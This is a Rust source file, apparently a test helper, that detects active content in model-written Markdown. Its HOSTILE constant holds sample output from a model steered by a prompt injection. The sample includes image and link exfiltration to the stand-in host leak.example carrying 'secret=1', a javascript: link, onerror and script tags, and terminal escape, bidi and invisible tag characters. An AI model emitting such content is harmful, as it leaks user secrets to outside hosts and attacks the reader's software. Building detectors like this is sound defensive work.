//! PR-02: what acts in a text that a model wrote, and whether it still does where hadal shows it.

use pulldown_cmark::{Event, Options, Parser, Tag};

/// Words of a model that a page has talked into it: images and links that carry something away, scripts, HTML, and characters that act.
pub(crate) const HOSTILE: &str = "Seen ![x](http://leak.example/?secret=1) and [here](javascript:alert(1)), \
    <img src=\"http://leak.example/2\" onerror=\"go()\"> or http://leak.example/3 and <http://leak.example/4>, \
    [ref][r].\u{1b}[31m\u{202e}\u{e0041}\u{9b}2J\n\n<script>steal()</script>\n\n[r]: data:text/html,x\n\n```html\n<b>code</b>\n```\n";

/// What a reader's program would do with a text: everything that acts in it.
pub(crate) fn acts(text: &str, known: &[&str]) -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    for event in Parser::new_ext(text, Options::ENABLE_TABLES | Options::ENABLE_FOOTNOTES) {
        match event {
            Event::Html(html) | Event::InlineHtml(html) => found.push(html.to_string()),
            Event::Start(Tag::Image { dest_url, .. }) => found.push(dest_url.to_string()),
            Event::Start(Tag::Link { dest_url, .. }) if !known.contains(&&*dest_url) => {
                found.push(dest_url.to_string())
            }
            Event::Text(shown) if shown.contains("http://leak.example") => found.push(shown.to_string()),
            _ => {}
        }
    }
    found.extend(characters(text));
    found
}

/// Characters that act in a terminal, turn text around, or are seen by programs only.
pub(crate) fn characters(text: &str) -> Vec<String> {
    let acts = |c: &char| {
        (c.is_control() && !matches!(c, '\n' | '\t'))
            || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{e0000}'..='\u{e007f}')
    };
    text.chars().filter(acts).map(|c| c.escape_unicode().to_string()).collect()
}
